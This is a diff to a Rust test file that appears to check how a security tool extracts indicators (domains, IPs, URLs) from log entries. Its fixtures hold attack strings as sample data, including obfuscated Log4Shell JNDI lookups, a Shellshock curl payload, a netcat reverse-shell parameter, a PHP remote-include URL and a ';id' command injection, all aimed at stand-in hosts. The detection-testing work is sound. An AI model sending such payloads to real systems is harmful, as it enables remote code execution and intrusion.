@@ -254,6 +254,19 @@ fn indicators_are_found_where_they_are_written_small() {
             json!({"data": {"srcuser": "${jndi:ldap://evil.example:1389/a}"}}),
             &[("domain", "evil.example"), ("url", "ldap://evil.example:1389/a")],
         ),
+        // The scheme put together by look-ups, and the place behind one that looks like this host.
+        (
+            json!({"full_log": "GET /?x=${jndi:${lower:l}${lower:d}ap://evil.example/a} HTTP/1.1"}),
+            &[("domain", "evil.example")],
+        ),
+        (
+            json!({"data": {"id": "${${::-j}ndi:${::-r}${::-m}${::-i}://203.0.113.9:1099/a}"}}),
+            &[("ip-dst", "203.0.113.9")],
+        ),
+        (
+            json!({"data": {"id": "${jndi:ldap://127.0.0.1#evil.example:1389/a}"}}),
+            &[("domain", "evil.example")],
+        ),
         (
             json!({"decoder": {"name": "web-accesslog"}, "data": {"srcip": "10.0.0.1", "url": "/"},
                 "full_log": "10.0.0.1 - - \"GET / HTTP/1.1\" 404 1 \"https://shop.example/\" \"() { :;}; /bin/bash -c 'curl http://203.0.113.9/s'\""}),
@@ -266,6 +279,20 @@ fn indicators_are_found_where_they_are_written_small() {
         (
             json!({"data": {"srcip": "10.0.0.1", "url": "/x.php?cmd=nc+203.0.113.9+4444"}}),
             &[("ip-dst", "203.0.113.9")],
+        ),
+        // What stands inside of another URL, or behind a scheme that leads nowhere else.
+        (
+            json!({"data": {"srcip": "10.0.0.1", "url": "/x.php?page=php://filter/resource=http://evil.example/s.txt"}}),
+            &[("domain", "evil.example"), ("url", "http://evil.example/s.txt")],
+        ),
+        (
+            eventdata(json!({"commandLine": "curl https://203.0.113.9/?to=http://evil.example;id"})),
+            &[
+                ("ip-dst", "203.0.113.9"),
+                ("url", "https://203.0.113.9/?to=http://evil.example;id"),
+                ("domain", "evil.example"),
+                ("url", "http://evil.example/"),
+            ],
         ),
         // Where a download came from, what a registry value and a subscription run.
         (
